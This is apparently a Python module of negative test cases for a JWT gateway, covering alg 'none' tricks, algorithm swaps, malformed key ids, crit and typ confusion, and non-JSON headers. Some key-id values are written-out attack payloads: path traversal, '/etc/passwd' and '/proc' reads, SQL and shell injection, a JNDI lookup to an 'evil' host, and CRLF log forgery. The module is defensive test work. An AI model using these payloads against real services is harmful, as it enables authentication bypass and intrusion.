"""A: what the JOSE header may say."""

from __future__ import annotations

from collections.abc import Iterator

from cryptography.hazmat.primitives import hashes

from proof.attack import spellings
from proof.attack.tokens import ABSENT, as_json, encoded, raw
from tests.handler.case import Case, header_case, token_case
from tests.handler.signing import World


def header_cases() -> Iterator[Case]:
    yield from _algorithm()
    yield from _key_id()
    yield from _critical()
    yield from _type()
    yield from _bytes()


def _with_leftover_signature(world: World, algorithm: str) -> str:
    _, payload, signature = world.access().split(".")
    return f"{encoded(as_json(world.header(alg=algorithm)))}.{payload}.{signature}"


def _algorithm() -> Iterator[Case]:
    yield token_case(
        "A01",
        "alg-none",
        "alg none, empty signature, trailing dot",
        lambda world: f"{world.unsigned(world.header(alg='none'))}.",
        "token_malformed",
    )
    yield token_case(
        "A01",
        "alg-none-alone",
        "alg none without a key id",
        lambda world: f"{world.unsigned({'alg': 'none', 'typ': 'JWT'})}.",
        "token_malformed",
    )
    for spelling in ("None", "NONE", "nOnE"):
        yield token_case(
            "A02",
            f"alg-{spelling}",
            f"alg {spelling}, empty signature",
            lambda world, spelling=spelling: f"{world.unsigned(world.header(alg=spelling))}.",
            "token_malformed",
        )
    for spelling in ("none", "None", "NONE", "nOnE"):
        yield token_case(
            "A02",
            f"alg-{spelling}-leftover-signature",
            f"alg {spelling} over a real token's signature",
            lambda world, spelling=spelling: _with_leftover_signature(world, spelling),
            "header_invalid",
        )
    for name, value in {
        "missing": ABSENT,
        "null": None,
        "number": 256,
        "true": True,
        "list": ["RS256"],
        "object": {"a": 1},
        "empty": "",
    }.items():
        yield header_case("A04", f"alg-{name}", f"alg {name}", {"alg": value}, needs_key=False)
    yield header_case("A05", "alg-lower-case", "alg rs256", {"alg": "rs256"})
    for algorithm, digest in {"RS384": hashes.SHA384(), "RS512": hashes.SHA512()}.items():
        yield token_case(
            "A06",
            f"alg-{algorithm}",
            f"{algorithm}, a valid signature by the same key",
            lambda world, algorithm=algorithm, digest=digest: world.signed(world.header(alg=algorithm), digest=digest),
            "header_invalid",
            layer="H",
            needs_key=True,
        )


def _key_id() -> Iterator[Case]:
    yield header_case("A07", "kid-missing", "no key id", {"kid": ABSENT})
    for name, value in {"null": None, "number": 1, "list": ["k1"], "object": {}, "true": True}.items():
        yield header_case("A08", f"kid-{name}", f"key id is {name}", {"kid": value})
    yield header_case("A09", "kid-empty", "key id is an empty string", {"kid": ""})
    yield header_case(
        "A10",
        "kid-unknown",
        "key id that the pool does not have",
        {"kid": "q" * 43 + "="},
        "key_unknown",
        needs_key=False,
    )
    for name, value in {
        "path": "../../dev/null",
        "proc": "/proc/sys/kernel/randomize_va_space",
        "sql": "' UNION SELECT '1",
        "shell": "|sleep 10",
        "url": "https://evil/k",
        "file-url": "file:///etc/passwd",
        "template": "${jndi:ldap://evil/k}",
    }.items():
        yield header_case(
            "A11",
            f"kid-{name}",
            f"key id is {value}",
            {"kid": value},
            "key_unknown",
            needs_key=False,
            milliseconds=1000,
        )
    for name, value in {
        "crlf": 'k\r\n{"level":"INFO","status":200}',
        "newline": "k\n2025-11-22 INFO admin signed in",
        "ansi": "\x1b[2J\x1b[31mk\x07",
        "bidi": "k\u202e\u2028\u0000",
    }.items():
        yield header_case(
            "A12",
            f"kid-{name}",
            f"key id that would forge a log line ({name})",
            {"kid": value},
            "key_unknown",
            needs_key=False,
            layer="H",
        )


def _critical() -> Iterator[Case]:
    yield header_case("A13", "crit-unknown", "crit names an unknown extension", {"crit": ["x-unknown"]}, layer="H")
    for name, value in {"empty": [], "string": "exp", "names-absent-member": ["exp"], "null": None}.items():
        yield header_case("A14", f"crit-{name}", f"crit is {value!r}", {"crit": value}, layer="H")

    unencoded = {"crit": ["b64"], "b64": False}
    yield header_case(
        "A15", "b64-false", "unencoded payload announced (RFC 7797)", unencoded, layer="H", milliseconds=50
    )
    for name, middle, reason in (
        ("empty", "", "token_malformed"),
        ("huge", "x" * 9_000, "token_too_large"),
        ("huge-and-short-enough", "x" * 7_000, "header_invalid"),
        ("raw-json", '{"sub":"alice"}', "token_malformed"),
    ):
        yield token_case(
            "A15",
            f"b64-false-{name}",
            f"unencoded payload, middle segment {name}",
            lambda world, middle=middle: f"{encoded(as_json(world.header(**unencoded)))}.{middle}.{'A' * 342}",
            reason,
            layer="H",
            milliseconds=50,
            unsendable=name == "huge",  # the request would exceed the gateway's own limit
        )


def _type() -> Iterator[Case]:
    for value in ("at+jwt", "JWT"):
        yield header_case(
            "A17", f"typ-{value}", f"typ {value}, otherwise valid", {"typ": value}, None, expected=(200,), layer="-"
        )
    yield token_case(
        "A17", "typ-absent", "no typ: Cognito's own header", World.access, None, expected=(200,), layer="-"
    )
    for name, value in {
        "logout": "logout+jwt",
        "list": ["JWT"],
        "number": 5,
        "null": None,
        "empty": "",
        "dpop": "dpop+jwt",
    }.items():
        yield header_case("A18", f"typ-{name}", f"typ {value!r}: a token of another kind", {"typ": value}, layer="H")
    yield header_case("A19", "cty-member", "cty JWT beside ordinary claims", {"cty": "JWT"}, layer="H")
    yield token_case(
        "A19",
        "cty-nested",
        "cty JWT with a valid token as payload",
        lambda world: world.signed(world.header(cty="JWT"), world.access().encode()),
        "header_invalid",
        layer="H",
        needs_key=True,
    )


def _bytes() -> Iterator[Case]:
    for name, text in {**spellings.NO_OBJECTS, **spellings.NO_JSON}.items():
        yield token_case(
            "A21",
            f"header-{name}",
            f"header is {text.decode() or 'empty'}",
            lambda world, text=text: world.strongest(text),
            "token_malformed",
        )
    for name, text in spellings.NO_UTF_8.items():
        yield token_case(
            "A22",
            f"header-{name}",
            "header is not UTF-8",
            lambda world, text=text: world.strongest(text),
            "token_malformed",
        )
    for literal in ("NaN", "Infinity", "-Infinity"):
        yield header_case(
            "A24",
            f"header-{literal}",
            f"header holds {literal}, which is not JSON",
            {"x": raw(literal)},
            "token_malformed",
            layer="H",
        )
